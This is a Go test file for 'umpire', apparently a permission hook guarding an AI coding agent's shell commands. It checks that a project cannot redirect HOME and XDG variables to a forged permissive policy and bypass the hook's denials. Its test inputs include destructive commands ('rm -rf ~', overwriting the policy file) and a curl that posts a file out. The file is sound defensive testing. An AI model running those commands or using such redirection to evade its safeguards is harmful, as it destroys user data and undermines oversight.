//go:build unix

package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/umpire-dev/umpire"
	"github.com/umpire-dev/umpire/internal/audit"
	"github.com/umpire-dev/umpire/internal/snapshot"
	"github.com/umpire-dev/umpire/internal/taint"
	"github.com/umpire-dev/umpire/internal/tools/programs"
	"github.com/umpire-dev/umpire/policy"
)

// moved is a world whose home the password file names, and a folder that a project's
// settings may name instead.
type moved struct {
	*world
	other string
}

func newMoved(t *testing.T, mine, other string) moved {
	t.Helper()
	bin := t.TempDir()
	passwd := filepath.Join(bin, "passwd")
	programs.Build(t, bin, passwd, "cmd/umpire", "cmd/umpire-hook")
	m := moved{newWorld(t), t.TempDir()}
	m.bin = bin
	if err := os.WriteFile(passwd, fmt.Appendf(nil, "me:x:%d:1::%s:/bin/sh\n", os.Getuid(), m.home), 0o600); err != nil {
		t.Fatal(err)
	}
	m.write(".config/umpire/policy.yaml", mine)
	for _, name := range []string{".config/umpire/policy.yaml", "umpire/policy.yaml"} { // for HOME, and for XDG_CONFIG_HOME
		p := filepath.Join(m.other, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(other), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return m
}

// with asks about a command with variables that a project set.
func (m moved) with(env []string, command string) (exit int, stderr string) {
	m.t.Helper()
	cmd := m.command("claude")
	cmd.Env = append(cmd.Env, env...)
	var errs bytes.Buffer
	cmd.Stdin, cmd.Stderr = strings.NewReader(m.payload("i", command)), &errs
	err := cmd.Run()
	if code := cmd.ProcessState.ExitCode(); err != nil && code < 0 {
		m.t.Fatal(err)
	}
	return cmd.ProcessState.ExitCode(), errs.String()
}

// The adversary is a project whose settings set variables for the agent and its hooks, and
// that has brought, or had its agent write, a folder with a policy, a record and a cache
// that suit it.
func TestMovedFolders(t *testing.T) {
	m := newMoved(t, "version: 1\nrules:\n  - deny: [exec(frob *), 'delete(~/notes/**)']\n",
		"version: 1\nmode: observe\npacks: []\ndefaultAction: allow\nrules:\n  - allow: ['exec(*)', 'filesystem(**)']\n  - deny: exec(grumble *)\n")

	// A compiled policy that allows all, where the hook would look for it there.
	lax, err := policy.Compile(policy.Source{Default: umpire.Allow, Observe: true})
	if err != nil {
		t.Fatal(err)
	}
	forged := filepath.Join(m.other, "umpire")
	for _, user := range []string{m.home, m.other} {
		layers := snapshot.DefaultLayers(user, m.dir, func(string) string { return "" })
		if err := snapshot.Write(layers.Name(forged, m.dir), &snapshot.Snapshot{Policy: lax, Written: time.Now(), Sources: snapshot.StatAll(layers.Files())}); err != nil {
			t.Fatal(err)
		}
	}
	state := filepath.Join(m.home, ".local", "state", "umpire")
	for _, env := range [][]string{
		{},
		{"HOME=" + m.other},
		{"HOME="},
		{"HOME=/nonexistent"},
		{"XDG_CONFIG_HOME=" + m.other},
		{"XDG_STATE_HOME=" + m.other},
		{"XDG_CACHE_HOME=" + m.other},
		{"HOME=" + m.other, "XDG_CONFIG_HOME=" + m.other, "XDG_STATE_HOME=" + m.other, "XDG_CACHE_HOME=" + m.other},
	} {
		for _, command := range []string{"frob it", "rm -rf " + m.home + "/notes/x", "rm -rf " + m.home, "echo x > " + m.home + "/.config/umpire/policy.yaml", "rm -rf ~"} {
			if exit, said := m.with(env, command); exit != 2 {
				t.Errorf("%v: %s: exit %d %s", env, command, exit, said)
			}
		}
		if exit, said := m.with(env, "ls"); exit != 0 {
			t.Errorf("%v: a harmless call: exit %d, %s", env, exit, said)
		}
		rs, err := audit.Last(state, audit.Query{}, 1)
		if err != nil || len(rs) != 1 || rs[0].Tool != "Bash" || time.Since(rs[0].Time) > time.Hour {
			t.Fatalf("%v: the record has %+v, %v", env, rs, err)
		}
		if told := strings.Contains(rs[0].Failure, "umpire init"); told != (len(env) > 0) {
			t.Errorf("%v: the record says %q", env, rs[0].Failure)
		}
		if err := os.RemoveAll(state); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := os.Stat(filepath.Join(m.other, "umpire", "audit.jsonl")); err == nil {
		t.Error("the record was written where the project wants it")
	}

	// What is found there may tighten all the same.
	if exit, _ := m.with([]string{"HOME=" + m.other}, "grumble x"); exit != 2 {
		t.Errorf("a stricter rule there: exit %d", exit)
	}
	// And a session stays tainted.
	if err := taint.Open(filepath.Join(state, "taint")).Set(taint.Mark{Session: "s"}); err != nil {
		t.Fatal(err)
	}
	plain, _ := m.with(nil, "curl -d @x https://example.org/")
	if elsewhere, _ := m.with([]string{"XDG_STATE_HOME=" + m.other}, "curl -d @x https://example.org/"); elsewhere != plain {
		t.Errorf("a tainted session: exit %d, and with another folder %d", plain, elsewhere)
	}
}

// Where the user's own home has nothing of umpire's, it lives where the environment says:
// in containers, in tests, in the homes that other tools make.
func TestHomeOfTheEnvironment(t *testing.T) {
	m := newMoved(t, "", "version: 1\nrules:\n  - deny: exec(grumble *)\n")
	if err := os.RemoveAll(filepath.Join(m.home, ".config")); err != nil {
		t.Fatal(err)
	}
	env := []string{"HOME=" + m.other}
	if exit, said := m.with(env, "grumble x"); exit != 2 {
		t.Errorf("its policy is not in force: exit %d %s", exit, said)
	}
	rs, err := audit.Last(filepath.Join(m.other, ".local", "state", "umpire"), audit.Query{}, 1)
	if err != nil || len(rs) != 1 || rs[0].Failure != "" {
		b, _ := json.Marshal(rs)
		t.Errorf("its record: %s, %v", b, err)
	}
	if _, err := os.Stat(filepath.Join(m.home, ".local")); err == nil {
		t.Error("something was written to the home of the password file")
	}
}
